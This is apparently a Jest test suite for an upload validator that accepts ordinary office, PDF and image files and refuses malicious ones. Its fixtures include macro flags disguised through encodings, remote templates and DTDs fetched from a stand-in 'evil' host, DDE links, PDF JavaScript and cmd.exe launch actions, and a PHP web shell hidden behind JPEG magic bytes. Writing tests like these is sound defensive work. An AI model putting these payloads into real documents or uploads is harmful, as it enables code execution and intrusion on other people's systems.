/** Papers people hand in: real ones are taken, those made to do harm are refused, whichever way they hide it. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import { paperOf } from '../../../src/documents/paper.js';
import { DomainError } from '../../../src/domain/errors.js';
import { aJpeg, aLetter, aPack, aPdf, aPng, relations } from '../../support/papers.js';
import { aWorkbook, aZip } from '../../support/zip.js';

const folder = mkdtempSync(path.join(os.tmpdir(), 'bm-papers-'));
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** The ending of a paper that is taken, or the code of the refusal. */
async function taken(content: Buffer): Promise<string> {
  const file = path.join(folder, 'paper');
  writeFileSync(file, content);
  try {
    return (await paperOf(file)).ending;
  } catch (error) {
    if (error instanceof DomainError) return error.code;
    throw error;
  }
}
type Parts = Record<string, string | Buffer>;
const letter = (more: Parts = {}): Buffer => aZip(aLetter(more));
const book = (more: Parts = {}): Buffer => aZip(aWorkbook({ rows: '', more }));
const types = (inside: string): Parts => ({
  '[Content_Types].xml': `<Types>${inside}</Types>`,
});
const wide = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const big = (text: string): Buffer => wide(text).swap16();
const macro = (type: string): string =>
  `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.${type}.main+xml"/></Types>`;
const ENTITY = '<!DOCTYPE a SYSTEM "http://evil/x.dtd">';

async function byExcelJs(): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('名单');
  sheet.addRow(['企业', { text: '网站', hyperlink: 'https://example.com/' }]);
  const image = workbook.addImage({ buffer: aPng() as never, extension: 'png' });
  sheet.addImage(image, 'A3:B5');
  sheet.getCell('A1').note = '批注';
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe('a paper is taken', () => {
  it.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a letter of Word, with links, a picture, fonts and a template on a drive', 'docx', letter],
    ['a workbook of a library, with a link, a picture and notes', 'xlsx', byExcelJs],
    [
      'a workbook with settings of a printer, and links to one beside it',
      'xlsx',
      () =>
        book({
          'xl/printerSettings/printerSettings1.bin': 'x',
          'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations(
            ['externalLinkPath', '2021年数据.xlsx', 'External'],
            ['externalLinkPath', 'file:///D:\\2020.xlsx', 'External'],
          ),
        }),
    ],
    ['parts in UTF-16', 'docx', () => letter({ 'word/document.xml': wide('<w:document/>') })],
    [
      'a PDF of a scanner, with bytes behind it',
      'pdf',
      () => Buffer.concat([aPdf(), Buffer.alloc(99)]),
    ],
    [
      'a PDF of LibreOffice, which says how the first page is shown',
      'pdf',
      () => aPdf('', { root: '/OpenAction [3 0 R /XYZ null null 0] /Lang (zh-CN)' }),
    ],
    [
      'a PDF with a view elsewhere and a link, its objects packed',
      'pdf',
      () =>
        aPdf('', {
          root: '/OpenAction 4 0 R',
          objects: [
            '<< /S /GoTo /D [3 0 R /Fit] >>',
            aPack('5 0 << /S /URI /URI (https://a.cn) >>'),
          ],
        }),
    ],
    ['a photo of a phone', 'jpg', aJpeg],
    ['a picture of a screen', 'png', aPng],
  ])('%s', async (_, ending, made) => {
    expect(await taken(await made())).toBe(ending);
  });
});

describe('an office file is refused', () => {
  it.each<[string, Buffer]>([
    ['macros said in UTF-16', letter({ '[Content_Types].xml': wide(macro('macroEnabled')) })],
    ['the other way round', letter({ '[Content_Types].xml': big(macro('macroEnabled')) })],
    ['without a mark', letter({ '[Content_Types].xml': wide(macro('macroEnabled')).subarray(2) })],
    ['macros said in references', letter({ '[Content_Types].xml': macro('macro&#69;nabled') })],
    ['macros said in hexadecimal', letter({ '[Content_Types].xml': macro('&#x6d;acroEnabled') })],
    [
      'another encoding',
      letter({ '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-7"?>${macro('x')}` }),
    ],
    [
      'a type nobody knows',
      letter(types('<Override PartName="/a" ContentType="application/hta"/>')),
    ],
    ['an embedded object', letter({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['an embedded workbook', letter({ 'word/embeddings/a.xlsx': 'x' })],
    ['a screen saver', letter({ 'word/media/a.scr': 'MZ' })],
    ['a shortcut', letter({ 'word/media/a.lnk': 'x' })],
    ['a program with a blank behind its name', letter({ 'setup.exe ': 'MZ' })],
    ['a program with a dot behind its name', letter({ 'setup.exe.': 'MZ' })],
    ['a part without an ending', letter({ 'word/payload': 'MZ' })],
    [
      'a template from outside',
      letter({
        'word/_rels/settings.xml.rels': relations([
          'attachedTemplate',
          'http://evil/x.dotm',
          'External',
        ]),
      }),
    ],
    [
      'the same in UTF-16 and references',
      letter({
        'word/_rels/settings.xml.rels': wide(
          relations(['attachedTemplate', 'http&#58;//evil/x.dotm', '&#69;xternal']),
        ),
      }),
    ],
    [
      'a template on a share',
      letter({
        'word/_rels/settings.xml.rels': relations([
          'attachedTemplate',
          'file://evil/x.dotm',
          'External',
        ]),
      }),
    ],
    [
      'a picture from outside',
      letter({
        'word/_rels/document.xml.rels': relations(['image', '\\\\evil\\x.png', 'External']),
      }),
    ],
    [
      'an object by its relation',
      letter({ 'word/_rels/document.xml.rels': relations(['oleObject', 'media/image1.png']) }),
    ],
    ['a document type', letter({ 'word/document.xml': `${ENTITY}<w:document/>` })],
    ['one in UTF-16', letter({ 'word/document.xml': wide(`${ENTITY}<w:document/>`) })],
    ['one in a part nobody reads', letter({ 'customXml/item1.xml': `${ENTITY}<a/>` })],
    ['a link to a running program', book({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' })],
    ['a connection', book({ 'xl/connections.xml': '<connections/>' })],
  ])('with %s', async (_, content) => {
    expect(await taken(content)).toBe('document.unsafe');
  });

  it('with a part that hides its first tag', async () => {
    const hidden = `<!--${' '.repeat(70_000)}-->${ENTITY}<w:document/>`;
    expect(await taken(letter({ 'word/document.xml': hidden }))).toBe('document.damaged');
  });
});

describe('a PDF is refused', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

  it.each<[string, string, Buffer]>([
    ['a script on opening', 'unsafe', aPdf('', { root: `/OpenAction ${script}` })],
    ['a script elsewhere', 'unsafe', aPdf('', { objects: [script] })],
    ['an escaped name', 'unsafe', aPdf('', { objects: ['<< /S /J#61vaScript >>'] })],
    ['a program', 'unsafe', aPdf('', { objects: ['<< /S /Launch /F (cmd.exe) >>'] })],
    ['a file inside', 'unsafe', aPdf('', { objects: ['<< /Type /EmbeddedFile >>'] })],
    ['a page it opens', 'unsafe', aPdf('', { root: '/OpenAction << /S /URI /URI (http://e) >>' })],
    [
      'a page it opens from elsewhere',
      'unsafe',
      aPdf('', { root: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (http://e) >>'] }),
    ],
    ['a packed script', 'unsafe', aPdf('', { objects: [aPack(`4 0 ${script}`)] })],
    ['what cannot be unpacked', 'damaged', aPdf('', { objects: [aPack('x', '/LZWDecode')] })],
    ['five bytes', 'damaged', Buffer.from('%PDF-')],
    ['no end', 'damaged', aPdf().subarray(0, -20)],
  ])('with %s', async (_, kind, content) => {
    expect(await taken(content)).toBe(`document.${kind}`);
  });
});

describe('a picture is refused', () => {
  it.each<[string, Buffer]>([
    ['three bytes and a script', Buffer.from('\xff\xd8\xff<?php system($_GET[0]); ?>', 'latin1')],
    ['a photo that is cut off', aJpeg(4000, 3000, '').subarray(0, -2)],
    ['a photo without a size', aJpeg(0, 0)],
    ['a picture that is cut off', aPng().subarray(0, -12)],
    ['a picture without a size', aPng(0, 2)],
    ['eight bytes', aPng().subarray(0, 8)],
  ])('%s', async (_, content) => {
    expect(await taken(content)).toBe('document.damaged');
  });
});
